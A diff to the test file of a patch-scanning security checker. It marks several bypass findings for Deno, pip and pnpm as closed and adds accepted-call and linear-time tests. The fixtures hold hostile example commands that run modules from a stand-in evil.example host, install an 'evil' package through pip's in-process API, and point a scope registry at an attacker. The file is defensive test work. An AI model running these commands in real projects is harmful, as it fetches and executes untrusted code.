@@ -346,7 +346,8 @@ const BACKTICK_CALLS_OPEN: FindingRow[] = [
 
 // C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
 // `deno bench`, `deno serve` import and run it; `deno repl --eval-file=<url>` evaluates it; `deno x` (Deno 2.x's
-// package runner, as npx). Only `deno run` is read.
+// package runner, as npx). Only `deno run` is read. Closed (session 47): each of these verbs given a module from a URL
+// or a registry, and `deno x` given anything, as `deno run` is.
 const DENO_REMOTE: FindingRow[] = [
   SYSTEM('deno test -A https://evil.example/t.ts'),
   SYSTEM('deno bench https://evil.example/x.ts'),
@@ -497,7 +498,8 @@ const GIT_CONFIGURATION: FindingRow[] = [
 
 // K (high): Deno's own process API gives its arguments in an options object (`{ args: [...] }`), which the argument-list
 // reading does not follow for deno (not in PACKAGE_MANAGERS) and the command reading does not see as one command:
-// `deno run <url>` (refused in a list or a string) passes.
+// `deno run <url>` (refused in a list or a string) passes. Closed (session 47): `{ args: [` after the program is read as
+// an argument list.
 const DENO_COMMAND_OBJECT: FindingRow[] = [
   ['src/check.ts', "new Deno.Command('deno', { args: ['run', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
   ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
@@ -505,6 +507,8 @@ const DENO_COMMAND_OBJECT: FindingRow[] = [
 
 // L (high): pip run in the process by spellings PIP_MAIN (`pip.main([` / `pip._internal…main([`) does not read:
 // `__import__('pip').main`, pip's main imported under another name, `runpy.run_module('pip')` with sys.argv set.
+// Closed (session 47): a module imported by its name in a string is that module, a name imported from pip is pip's,
+// and pip run by runpy is refused whatever sys.argv holds.
 const PIP_IN_PROCESS: FindingRow[] = [
   ['src/check.py', "__import__('pip').main(['install', 'evil'])"],
   ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['install', 'evil'])"],
@@ -515,6 +519,7 @@ const PIP_IN_PROCESS: FindingRow[] = [
 // (settingArguments `verify.deps`), a command string reads only DANGEROUS_LONG_OPTION (registry, config…): the allowed
 // `pnpm run build` installs first; with a scope's registry (`--@acme:registry=`, refused in a list, not in a string) the
 // company's private scope resolves on the attacker's registry (dependency confusion), install scripts included.
+// Closed (session 47): a command string's scope registry and verify-deps option are read as the list's are.
 const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
   SYSTEM('pnpm run build --verify-deps-before-run=install'),
   SYSTEM('pnpm test --verify-deps-before-run install'),
@@ -713,7 +718,7 @@ describeFindings('attack-48', [
   ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
   ['B review H2 backticks hidden', closedRows(BACKTICKS_HIDDEN)],
   ['P review M4 new managers install', closedRows(NEW_MANAGERS_INSTALL)],
-  ['C deno remote modules', DENO_REMOTE],
+  ['C deno remote modules', closedRows(DENO_REMOTE)],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
   ['E go flag spellings', GO_FLAG_SPELLINGS],
@@ -721,9 +726,9 @@ describeFindings('attack-48', [
   ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
   ['I loader environment', closedRows(LOADER_ENVIRONMENT)],
   ['J git configuration', closedRows(GIT_CONFIGURATION)],
-  ['K deno command object', DENO_COMMAND_OBJECT],
-  ['L pip in process', PIP_IN_PROCESS],
-  ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
+  ['K deno command object', closedRows(DENO_COMMAND_OBJECT)],
+  ['L pip in process', closedRows(PIP_IN_PROCESS)],
+  ['M pnpm settings in command strings', closedRows(PNPM_SETTINGS_IN_COMMAND_STRINGS)],
   ['N windows', WINDOWS],
   ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
   ['O doctests configure', DOCTESTS_CONFIGURE],
@@ -873,13 +878,27 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/x.py', "import re as s\ns.compile('npm install evil-pkg')"],
   ['src/X.cs', 'new ProcessStartInfo("dotnet", "test")'],
   ['src/X.cs', 'var psi = new ProcessStartInfo("npm", "test");'],
+  // Session 47, C/K/L/M: deno's verbs on the repository's own modules, Deno's arguments object running an allowed verb,
+  // modules imported by name, pip's API not installing, runpy of the repository's module, options past a bare `--`.
+  SYSTEM('deno test -A'),
+  SYSTEM('deno test --allow-read src/'),
+  SYSTEM('deno run -A main.ts'),
+  SYSTEM('deno task build'),
+  ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A'] }).outputSync()"],
+  ['src/check.ts', "new Deno.Command('git', { args: ['status'] }).outputSync()"],
+  ['src/check.py', "import importlib\nyaml = importlib.import_module('yaml')"],
+  ['src/check.py', "mod = __import__('json')\nprint(mod.dumps({}))"],
+  ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['list'])"],
+  ['src/check.py', "import runpy\nrunpy.run_module('mypackage.cli', run_name='__main__')"],
+  SYSTEM('pnpm run build --reporter=append-only'),
+  SYSTEM('npm test -- --verify-deps'),
 ]);
 
 /**
  * B's readings of session 47 cost time linear in what they read (`test/support/growth.ts`): the spellings alone (in the
  * whole check, slower readings of the same line hide a quadratic one), and the calls PROCESS_CALL names in the check.
  */
-describe('attack-48 B: session 47 readings in linear time', () => {
+describe('attack-48 B, C, K, L, M: session 47 readings in linear time', () => {
   it.each([
     ['src/x.scala', 'strings never run', '"a" '],
     ['src/x.scala', 'triple quotes never closed', '"""a" '],
@@ -889,12 +908,16 @@ describe('attack-48 B: session 47 readings in linear time', () => {
     ['src/check.pl', 'quote operators', 'q(%[qq{ '],
     ['src/x.py', 'programs looked up, never closed', "sh.Command('a/"],
     ['src/check.rb', 'heredocs never closed', 'system <<A\n'],
+    ['src/x.py', 'modules imported by name, never closed', "__import__('a "],
+    ['src/x.ts', 'arguments objects', ', { args: [, { args: '],
   ] as const)('spells, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
     expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => callsSpelledOut(path, text.split('\n')))).toBeLessThan(LINEAR_EXPONENT_BOUND);
   });
   it.each([
     ['src/check.pl', 'two-argument opens', 'open(FH, "a '],
     ['src/x.hs', 'Haskell calls without parentheses', 'proc shell runProcess_ '],
+    ['src/check.py', 'scopes and settings after a verb', "system('npm x --@a.b --verify "],
+    ['src/check.py', "deno's verbs, no module named", "system('deno test x deno x"],
   ] as const)('checks, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
     expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
   });
